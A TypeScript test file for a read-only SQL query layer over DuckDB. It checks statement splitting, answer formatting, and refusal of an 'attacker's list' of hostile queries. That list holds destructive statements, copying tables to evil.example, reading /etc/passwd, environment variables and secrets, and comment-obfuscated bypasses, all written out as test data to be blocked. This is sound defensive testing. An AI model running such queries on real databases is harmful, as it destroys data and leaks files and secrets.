import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openTables, type NodeEngine } from "#lib/engine/node.ts";
import { rowsSql, columnsSql } from "#lib/sql/answer.ts";
import { refusalOf, SHUT } from "#lib/sql/refusal.ts";
import { statementsOf, UnclosedText } from "#lib/sql/statements.ts";
import { documentTables } from "../support/documents.ts";

/* A reader's SQL asks the accounts and does nothing else. */

let engine: NodeEngine;
beforeAll(async () => {
  engine = await openTables(await documentTables());
  for (const sql of SHUT) await engine.read(sql);
});
afterAll(() => engine.close());

describe("statements", () => {
  it("are told apart where DuckDB tells them apart", () => {
    const text = `SELECT ';' AS a; -- one; two
      SELECT $$;$$, "b;c" FROM (VALUES (1)) t("b;c") /* ; */;;
      SELECT E'it\\'s;' `;
    expect(statementsOf(text).map(({ sql }) => sql)).toEqual([
      "SELECT ';' AS a",
      `-- one; two
      SELECT $$;$$, "b;c" FROM (VALUES (1)) t("b;c") /* ; */`,
      "SELECT E'it\\'s;'",
    ]);
    for (const { sql, at } of statementsOf(text)) expect(text.slice(at, at + sql.length)).toBe(sql);
  });

  it.each([
    "SELECT 'a",
    'SELECT "a',
    "SELECT (1",
    "SELECT 1)",
    "SELECT 1 /* a",
    "SELECT 1) ; DROP TABLE figures; SELECT (1",
  ])("that are not closed are none: %s", (text) => expect(() => statementsOf(text)).toThrow(UnclosedText));
});

const ATTACKS = [
  "DROP TABLE figures",
  "DELETE FROM figures",
  "UPDATE accounts SET value = 0",
  "INSERT INTO accounts SELECT * FROM accounts",
  "CREATE TABLE x AS SELECT 1",
  "CREATE OR REPLACE VIEW budget_execution AS SELECT 1",
  "ALTER TABLE figures DROP COLUMN value",
  "TRUNCATE figures",
  "ATTACH 'https://evil.example/x.db' AS x",
  "ATTACH ':memory:' AS x",
  "DETACH memory",
  "USE x",
  "INSTALL httpfs",
  "LOAD httpfs",
  "COPY figures TO '/tmp/stolen.csv'",
  "COPY (SELECT 1) TO 'https://evil.example/'",
  "EXPORT DATABASE '/tmp/x'",
  "IMPORT DATABASE '/tmp/x'",
  "PRAGMA database_list",
  "SET enable_external_access = true",
  "RESET enable_external_access",
  "SET memory_limit = '99GB'",
  "CALL pragma_version()",
  "CHECKPOINT",
  "VACUUM",
  "BEGIN TRANSACTION",
  "PREPARE x AS SELECT 1",
  "EXECUTE x",
  "CREATE MACRO f(a) AS a",
  "SELECT * FROM read_csv('/etc/passwd')",
  "SELECT * FROM READ_TEXT('/etc/passwd')",
  "SELECT * FROM \"read_text\"('/etc/passwd')",
  "SELECT * FROM read_blob('x')",
  "SELECT * FROM read_parquet('https://evil.example/x.parquet')",
  "SELECT * FROM parquet_metadata('x.parquet')",
  "SELECT * FROM glob('/*')",
  "SELECT * FROM '/etc/passwd'",
  "FROM 'https://evil.example/x.csv'",
  'SELECT * FROM "/etc/passwd.csv"',
  "SELECT * FROM figures, '/tmp/x.csv' WHERE true",
  "SELECT * FROM figures JOIN 'x.parquet' ON true",
  "SELECT * FROM duckdb_settings()",
  "SELECT * FROM duckdb_secrets()",
  "SELECT * FROM pragma_database_list()",
  "SELECT * FROM information_schema.tables",
  "SELECT * FROM query('DROP TABLE figures')",
  "SELECT * FROM query_table('figures')",
  "SELECT getenv('HOME')",
  "SELECT current_setting('home_directory')",
  "SELECT 1 INTO x",
  "WITH x AS (DELETE FROM figures RETURNING *) SELECT * FROM x",
  "/* SELECT */ DROP TABLE figures",
  "SELECT read_text/**/('/etc/passwd')",
] as const;

describe("an attacker's list", () => {
  it.each(ATTACKS)("%s is refused in words", (sql) => {
    expect(statementsOf(sql).map(({ sql }) => refusalOf(sql))).not.toContain(null);
  });

  // What the engine refuses by itself, were it ever asked; what only looks around is refused in words alone.
  const LOOKS = /duckdb_|pragma_|information_schema|current_setting|query|getenv/;
  it.each(ATTACKS.filter((sql) => !LOOKS.test(sql)))("%s does nothing even in the engine", async (sql) => {
    await expect(engine.read(columnsSql(sql))).rejects.toThrow();
    await expect(engine.read(rowsSql(sql, [{ name: "a", type: "VARCHAR" }], 10))).rejects.toThrow();
  });

  it("has left the accounts as they were, and the engine shut", async () => {
    const [row] = await engine.query<{ n: number }>("SELECT count(*)::INTEGER AS n FROM figures");
    expect(row!.n).toBeGreaterThan(1000);
    await expect(engine.read("SET enable_external_access = true")).rejects.toThrow();
    await expect(engine.read("FROM read_text('/etc/hostname')")).rejects.toThrow();
  });
});

describe("an answer", () => {
  const ask = async (sql: string, most = 10) => {
    const described = await engine.read(columnsSql(sql));
    const columns = described.getRowObjectsJS().map((row) => ({
      name: String(row["column_name"]),
      type: String(row["column_type"]),
    }));
    return { columns, rows: (await engine.read(rowsSql(sql, columns, most))).getRowsJS() };
  };

  it("has its decimals and big integers with all their digits", async () => {
    const { rows } = await ask(
      "SELECT 99999999999999.9999::DECIMAL(18,4), 9007199254740993::BIGINT, sum(170141183460469231731687303715884105727::HUGEINT), DATE '2024-02-29', [1, 2], 0.5::DOUBLE, true",
    );
    expect(rows).toEqual([
      [
        "99999999999999.9999",
        "9007199254740993",
        "170141183460469231731687303715884105727",
        "2024-02-29",
        "[1, 2]",
        0.5,
        true,
      ],
    ]);
  });

  it("keeps its order, columns of one name, and a comment at its end", async () => {
    const sql =
      "SELECT line AS a, -line AS a FROM passages ORDER BY line DESC, document_id -- the last first";
    const { columns, rows } = await ask(sql, 5000);
    expect(columns).toHaveLength(2);
    const lines = rows.map(([line]) => Number(line));
    expect(lines.length).toBeGreaterThan(1000);
    expect(lines).toEqual([...lines].sort((a, b) => b - a));
  });

  it("is one row longer than wanted where there is more", async () => {
    expect((await ask("FROM range(100)", 10)).rows).toHaveLength(11);
  });
});

it.each([
  "SELECT * FROM figures WHERE printed = 'DROP TABLE figures'",
  "WITH a AS (SELECT 1 AS x) SELECT * FROM a",
  "FROM budget_execution SELECT department, actual ORDER BY actual DESC LIMIT 5",
  "SELECT d.name FROM departments d JOIN documents x USING (department_id)",
  "SELECT count(*) FROM range(10)",
  "(SELECT 1) UNION ALL (SELECT 2)",
  "SELECT 'a' AS \"query\", unnest([1, 2])",
])("a question is asked: %s", async (sql) => {
  expect(refusalOf(sql)).toBeNull();
  await engine.read(columnsSql(sql));
});
